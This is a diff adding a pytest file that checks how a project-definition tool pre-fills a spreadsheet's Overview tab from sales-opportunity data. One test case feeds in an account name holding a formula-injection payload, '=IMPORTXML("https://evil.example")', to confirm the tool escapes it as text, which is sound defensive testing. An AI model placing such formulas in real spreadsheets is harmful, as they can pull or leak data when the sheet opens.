@@ -1,0 +1,114 @@
+"""The Project Definition's Overview tab and what psflow pre-fills on it
+(engagement/project_definition.py): pure."""
+
+from __future__ import annotations
+
+from datetime import date
+from decimal import Decimal
+from typing import Any
+
+import pytest
+
+from engagement import project_definition as pd
+from engagement.cost_estimate import cells_to_fill
+from engagement.models import Account, Opportunity
+from sandbox import seed
+
+RANGE = "'Overview'!B2:B10"
+OWNER = "divya.nair@northwind.example"
+MANAGER = "marcus.webb@northwind.example"
+GITLAB = "https://gitlab.example/ps-customers/acme-1a2b3c4d/acme-ci-cd-5e6f7a8b"
+MAVENLINK = "https://app.mavenlink.com/workspaces/100001"
+
+
+def opportunity(**changes: Any) -> Opportunity:
+    fields: dict[str, Any] = {
+        "id": seed.sfid(seed.OPPORTUNITY, 2),
+        "name": "Acme – CI/CD Modernisation",
+        "account": Account(id=seed.ACME.id, name="Acme Corporation", time_zone="America/Chicago"),
+        "stage": "Closed Won",
+        "amount": Decimal("42000"),
+        "currency": "USD",
+        "close_date": date(2026, 3, 31),
+        "sow_number": "SOW-2026-041",
+        "expected_start": date(2026, 4, 6),
+        "expected_completion": date(2026, 6, 1),
+    }
+    return Opportunity(**(fields | changes))
+
+
+def test_the_layout_is_the_templates() -> None:
+    template = next(t for t in seed.TEMPLATES if t.key == "project-definition")
+    overview = template.tabs[pd.OVERVIEW_TAB]
+    assert tuple(row[0] for row in overview) == pd.LABELS
+    assert pd.LABELS[pd.CUSTOMER_ROW - pd.HEADING_ROW] == "Customer"
+    assert pd.LABELS[pd.PROJECT_OWNER_ROW - pd.HEADING_ROW] == "Project owner"
+    assert pd.LABELS[pd.GITLAB_PROJECT_ROW - pd.HEADING_ROW] == "GitLab project"
+    assert pd.LABELS[pd.EXPECTED_COMPLETION_ROW - pd.HEADING_ROW] == "Expected completion"
+
+
+def test_prefill_puts_each_value_beside_its_label() -> None:
+    cells = pd.prefill(opportunity(), OWNER, MANAGER, GITLAB, MAVENLINK)
+    assert cells == {
+        RANGE: [
+            ["Acme Corporation"],
+            ["Acme – CI/CD Modernisation"],
+            ["SOW-2026-041"],
+            [OWNER],
+            [MANAGER],
+            [GITLAB],
+            [MAVENLINK],
+            ["2026-04-06"],
+            ["2026-06-01"],
+        ]
+    }
+
+
+def test_what_is_not_known_yet_is_left_empty() -> None:
+    bare = opportunity(sow_number=None, expected_start=None, expected_completion=None)
+    (values,) = pd.prefill(bare, OWNER, None, "", None).values()
+    assert values == [
+        ["Acme Corporation"],
+        ["Acme – CI/CD Modernisation"],
+        [None],
+        [OWNER],
+        [None],
+        [None],
+        [None],
+        [None],
+        [None],
+    ]
+
+
+@pytest.mark.parametrize(
+    ("name", "written"),
+    [
+        ('=IMPORTXML("https://evil.example")', '\'=IMPORTXML("https://evil.example")'),
+        ("2026", "'2026"),
+        ("+1 Consulting", "'+1 Consulting"),
+        ("Zoë & Co", "Zoë & Co"),
+    ],
+)
+def test_names_stay_text_in_the_sheet(name: str, written: str) -> None:
+    account = Account(id=seed.ACME.id, name=name, time_zone="America/Chicago")
+    (values,) = pd.prefill(opportunity(account=account), None, None, None, None).values()
+    assert values[0] == [written]
+
+
+def test_only_empty_cells_are_filled_so_a_rerun_writes_nothing() -> None:
+    wanted = pd.prefill(opportunity(), OWNER, MANAGER, GITLAB, None)
+    # a fresh copy of the template: column B is empty (the Sheets API trims empty cells)
+    fill = cells_to_fill({RANGE: []}, wanted)
+    assert fill["'Overview'!B2"] == [["Acme Corporation"]]
+    assert fill["'Overview'!B5"] == [[OWNER]]
+    assert "'Overview'!B8" not in fill  # no Mavenlink link yet
+    assert len(fill) == 8
+
+    # the sheet after that write, with the owner changed by a person since
+    grid = [[value if value is not None else ""] for (value,) in wanted[RANGE]]
+    grid[pd.PROJECT_OWNER_ROW - pd.CUSTOMER_ROW] = ["grace.kim@northwind.example"]
+    assert cells_to_fill({RANGE: grid}, wanted) == {}
+
+    # a later run that knows the Mavenlink link fills that cell alone
+    later = pd.prefill(opportunity(), OWNER, MANAGER, GITLAB, MAVENLINK)
+    assert cells_to_fill({RANGE: grid}, later) == {"'Overview'!B8": [[MAVENLINK]]}
